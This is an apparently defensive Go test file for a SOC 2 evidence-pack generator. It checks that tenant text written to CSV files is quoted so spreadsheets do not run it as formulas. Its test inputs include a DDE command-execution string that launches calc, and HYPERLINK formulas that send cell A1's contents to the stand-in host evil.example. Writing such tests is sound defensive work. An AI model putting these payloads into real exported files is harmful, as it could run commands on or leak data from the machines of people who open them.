package evidence

import (
	"encoding/csv"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/soc2-operator/soc2-operator/internal/journal"
)

// A namespace admin writes a ControlException's reason, ticket and owner, and the strings in the
// findings' messages. An auditor opens the pack's CSVs in a spreadsheet, which runs a cell that
// starts with =, +, -, @, a tab or a carriage return as a formula (OWASP "CSV Injection"): every
// such cell must come out with a leading single quote, so it is shown as the text it is, and
// every other cell unchanged.
func TestTenantTextInThePacksCSVsIsNotAFormula(t *testing.T) {
	t0 := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
	ex := journal.Exception{Name: "waiver", RequestedBy: "@SUM(1+1)*cmd|' /C calc'!A0", ApprovedBy: "ciso@example.com",
		Owner: "+HYPERLINK(\"https://evil.example/?\"&A1,\"owner\")", Reason: "=HYPERLINK(\"https://evil.example\",\"see ticket\")",
		Ticket: "-2+3", Checks: []string{"wl-privileged"}, Created: t0, Expires: t0.AddDate(0, 1, 0)}
	f := journal.Finding{Key: "k", Check: "wl-privileged", Kind: "Deployment", Name: "api", Message: "\t=1+1", FirstSeen: t0.Add(time.Hour)}
	recs := []journal.Record{
		{Type: journal.ExceptionRequested, Time: t0, Namespace: "team-a", Exception: &ex},
		{Type: journal.ExceptionApproved, Time: t0.Add(time.Minute), Namespace: "team-a", Exception: &ex},
		{Type: journal.FindingOpened, Time: t0.Add(time.Hour), Profile: "p", Namespace: "team-a", Finding: &f},
	}
	store := journalOf(t, append(recs, heartbeats(t0, t0.Add(3*time.Hour))...)...)
	out := buildPack(t, store, t0, t0.Add(3*time.Hour))
	files, _ := filepath.Glob(filepath.Join(out, "*.csv"))
	for _, path := range files {
		fh, err := os.Open(path)
		if err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(fh).ReadAll()
		fh.Close()
		if err != nil {
			t.Fatalf("%s: %v", path, err)
		}
		for _, row := range rows {
			for _, cell := range row {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("%s: cell %q would run as a formula in a spreadsheet", filepath.Base(path), cell)
				}
			}
		}
	}
	rows := readCSV(t, filepath.Join(out, "exceptions.csv"))
	if len(rows) != 1 || rows[0]["reason"] != "'"+ex.Reason || rows[0]["ticket"] != "'"+ex.Ticket || rows[0]["owner"] != "'"+ex.Owner ||
		rows[0]["requested_by"] != "'"+ex.RequestedBy || rows[0]["approved_by"] != ex.ApprovedBy || rows[0]["name"] != "waiver" {
		t.Errorf("exceptions.csv: %v\nwant the tenant's text after a single quote, and ordinary text unchanged", rows)
	}
	devs := readCSV(t, filepath.Join(out, "deviations.csv"))
	if len(devs) != 1 || devs[0]["message"] != "'"+f.Message || devs[0]["duration_hours"] != "2.00" {
		t.Errorf("deviations.csv: %v\nwant the message after a single quote, and numbers unchanged", devs)
	}
}

// A number, negative or signed, is a value a spreadsheet should compute with: it is written as it
// is, while text that merely starts like one ("-2+3") is quoted.
func TestSheetLeavesSignedNumbersUnquoted(t *testing.T) {
	var b strings.Builder
	s := newSheet(&b)
	if err := s.Write([]string{"-2", "+1.50", "-0.25", "-2+3", "=1", "@a", "\t=1", "\r=1", "plain"}); err != nil {
		t.Fatal(err)
	}
	s.Flush()
	if want := "-2,+1.50,-0.25,'-2+3,'=1,'@a,'\t=1,\"'\r=1\",plain\n"; b.String() != want {
		t.Errorf("sheet wrote %q, want %q", b.String(), want)
	}
}

// OWASP ASVS 1.2.10 lists the null character beside =, +, -, @ and a tab as a first character
// a spreadsheet may read a formula after: a finding message or exception reason starting with
// one was written as it was.
func TestSheetQuotesACellStartingWithANullCharacter(t *testing.T) {
	var b strings.Builder
	s := newSheet(&b)
	if err := s.Write([]string{"\x00=HYPERLINK(\"https://evil.example\")", "plain"}); err != nil {
		t.Fatal(err)
	}
	s.Flush()
	if want := "\"'\x00=HYPERLINK(\"\"https://evil.example\"\")\",plain\n"; b.String() != want {
		t.Errorf("sheet wrote %q, want the cell after a single quote", b.String())
	}
}

// Excel opens a CSV file with the list separator of the reader's locale, a semicolon in much of
// Europe: a tenant's exception reason "temporary;=HYPERLINK(...)" was written unquoted, so an
// auditor there saw a second cell that is a formula. A cell with a semicolon is quoted, as one
// with a comma is, and reads back as the same cell; the rows around it keep their order.
func TestSheetQuotesACellWithASemicolon(t *testing.T) {
	var b strings.Builder
	s := newSheet(&b)
	rows := [][]string{{"a", "b"}, {"temporary;=HYPERLINK(\"https://evil.example\")", "x, y", " lead", "-1", ""}, {"c", "d;=1+1"}, {"e", "f"}}
	for _, r := range rows {
		s.Write(r)
	}
	s.Flush()
	if err := s.Error(); err != nil {
		t.Fatal(err)
	}
	// Each semicolon is inside a quoted cell: read with a semicolon separator, the line is
	// not split there.
	for _, want := range []string{`"temporary;=HYPERLINK(""https://evil.example"")",`, `,"d;=1+1"` + "\n"} {
		if !strings.Contains(b.String(), want) {
			t.Errorf("sheet wrote %q, want the cell with a semicolon quoted: %q", b.String(), want)
		}
	}
	r := csv.NewReader(strings.NewReader(b.String()))
	r.FieldsPerRecord = -1
	got, err := r.ReadAll()
	if err != nil || !slices.EqualFunc(got, rows, slices.Equal) {
		t.Errorf("read back %q (%v), want %q", got, err, rows)
	}
}
